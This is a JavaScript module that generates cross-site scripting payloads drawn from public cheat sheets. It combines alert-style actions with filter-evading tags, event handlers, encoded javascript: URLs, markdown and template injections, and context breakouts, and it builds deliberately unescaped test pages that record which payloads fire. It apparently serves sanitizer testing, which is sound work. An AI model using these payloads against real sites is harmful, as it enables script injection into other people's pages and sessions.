// SPDX-License-Identifier: EUPL-1.2
// payloads: texts that run a script where they are not escaped, each with the place that it is made for. From the families of the
// public cheat sheets, by combination: what runs, how it is hidden, and what it breaks out of.

const ACTS = ['alert(1)', 'confirm`1`', 'prompt?.(1)', "self['al'+'ert'](1)", '(alert)(1)'];

// What runs as soon as it is in the page.
const ELEMENTS = (act) => [
  `<script>${act}</script>`, `<SCRIPT>${act}</SCRIPT >`, `<script\n>${act}</script\t>`, `<script/x>${act}</script/x>`,
  `<script src="data:,${act}"></script>`, `<script type=module>${act}</script>`,
  `<img src=x onerror=${act}>`, `<img src=x onerror="${act}">`, `<IMG SRC=x OnErRoR=${act}>`, `<img/src=x/onerror=${act}>`,
  `<img src=x:x onerror\n=\n${act}>`, `<img src onerror=${act} alt=">">`, `<img src=x onerror=${act}//`,
  `<svg onload=${act}>`, `<svg/onload=${act}>`, `<svg><script>${act}</script></svg>`,
  `<svg><script>${act.replaceAll('(', '&#40;').replaceAll(')', '&#41;')}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`, `<svg><set onbegin=${act} attributeName=x to=1 dur=1s>`,
  `<svg><a><script>${act}</script></a></svg>`, `<math><mtext><img src=x onerror=${act}></mtext></math>`,
  `<body onload=${act}>`, `<body onpageshow=${act}>`, `<iframe srcdoc="<script>parent.${act.startsWith('(') ? 'alert(1)' : act}</script>"></iframe>`,
  `<iframe src="javascript:parent.alert(1)"></iframe>`, `<iframe onload=${act}></iframe>`, `<object data="javascript:parent.alert(1)"></object>`,
  `<embed src="javascript:parent.alert(1)">`, `<details open ontoggle=${act}>x</details>`, `<video><source onerror=${act}></video>`,
  `<video src=x onerror=${act}></video>`, `<audio src=x onerror=${act}></audio>`, `<input autofocus onfocus=${act}>`,
  `<select autofocus onfocus=${act}></select>`, `<textarea autofocus onfocus=${act}></textarea>`, `<button autofocus onfocus=${act}>x</button>`,
  `<style onload=${act}></style>`, `<link rel=stylesheet href=data:text/css, onload=${act}>`, `<marquee onstart=${act}>x</marquee>`,
  `<x tabindex=1 autofocus onfocus=${act}>`, `<div style="animation:a 1ms" onanimationstart=${act}><style>@keyframes a{}</style></div>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`, `<!--><img src=x onerror=${act}>-->`, `<!--!><img src=x onerror=${act}>`,
  `<![CDATA[><img src=x onerror=${act}>]]>`, `<?x ?><img src=x onerror=${act}>`, `</p><img src=x onerror=${act}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${act}>`, `<template><s></template><img src=x onerror=${act}>`,
];

// What needs a place: it ends what it stands in first.
const BREAKS = [['', 'text'], ['">', 'double'], ["'>", 'single'], ['" x>', 'double'], ['</title>', 'title'], ['</textarea>', 'textarea'],
  ['</style>', 'style'], ['--></script>', 'script'], ['>', 'bare']];
const ATTRIBUTES = (act) => [
  [`" onfocus=${act} autofocus x="`, 'input'], [`" autofocus onfocus="${act}" "`, 'input'], [`' onfocus=${act} autofocus x='`, 'input-single'],
  [`x onfocus=${act} autofocus`, 'input-bare'], [`" onanimationstart=${act} style="animation:a 1ms`, 'input'],
];
const ADDRESSES = (act) => [`javascript:${act}`, `JaVaScRiPt:${act}`, `java\tscript:${act}`, `\x01javascript:${act}`, `javascript://x%0a${act}`,
  `&#106;avascript:${act}`, `&#x6A;&#97;vascript&colon;${act}`, `javascript&#58;${act}`, `java&NewLine;script:${act}`, `data:text/html,<script>${act}</script>`,
  `vbscript:${act}`, ` javascript:${act}`];
const MARKDOWN = (act) => ADDRESSES(act).flatMap((to) => [`[click](${to})`, `[click](<${to}>)`, `![x](${to})`, `<${to}>`, `[a]: ${to}\n\n[a]`])
  .concat([`[a](x "\\" onfocus=${act} autofocus \\"")`, `![" onerror=${act} x="](x)`, `[<img src=x onerror=${act}>](x)`, `\`<img src=x onerror=${act}>\`</code><img src=x onerror=${act}>`,
    `| <img src=x onerror=${act}> |\n|---|`, `    </pre><script>${act}</script>`, `~~<svg onload=${act}>~~`, `https://x/<img src=x onerror=${act}>`,
    `www.x.org/"onfocus=${act}//`, `<a href="${`javascript:${act}`}">x</a>`, `&lt;img src=x onerror=${act}&gt;`, `\\<img src=x onerror=${act}>`]);
// What a template might read again.
const TEMPLATES = ['{{#x}}<img src=x onerror=alert(1)>{{/x}}', '{{{x}}}', '{{&x}}', '{% raw %}<script>alert(1)</script>{% end %}', '{{ "<script>alert(1)</script>" }}',
  '{%= x %}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '{{constructor.constructor("alert(1)")()}}', '{{t.x}}<script>alert(1)</script>'];

// [{text, place}], each text once.
export function payloads() {
  const all = new Map();
  const add = (text, place) => { if (text.length <= 200 && !all.has(text)) all.set(text, { text, place }); };
  for (const act of ACTS) {
    for (const [before, place] of BREAKS) for (const element of ELEMENTS(act)) add(before + element, place);
    for (const [text, place] of ATTRIBUTES(act)) add(text, place);
    for (const to of ADDRESSES(act)) add(to, 'address');
    for (const text of MARKDOWN(act)) add(text, 'markdown');
  }
  for (const text of TEMPLATES) add(text, 'template');
  return [...all.values()];
}

// A page that escapes nothing, with the text in the place that it is made for; it tells hit(i) of the page around it that it ran. Null:
// there is no such page.
export function careless({ text, place }, i) {
  const inner = {
    text, double: `<p title="${text}">`, single: `<p title='${text}'>`, title: `<title>${text}</title>`, textarea: `<textarea>${text}</textarea>`,
    style: `<style>${text}</style>`, script: `<script><!-- ${text}</script>`, bare: `<p ${text}`, input: `<input value="${text}">`,
    'input-single': `<input value='${text}'>`, 'input-bare': `<input value=${text}>`, address: `<a href="${text}" id=click>x</a><script>click.click()</script>`,
  }[place];
  return inner ? `<!doctype html><script>alert=confirm=prompt=()=>parent.hit(${i})</script><style>@keyframes a{}</style><body>${inner}` : null;
}
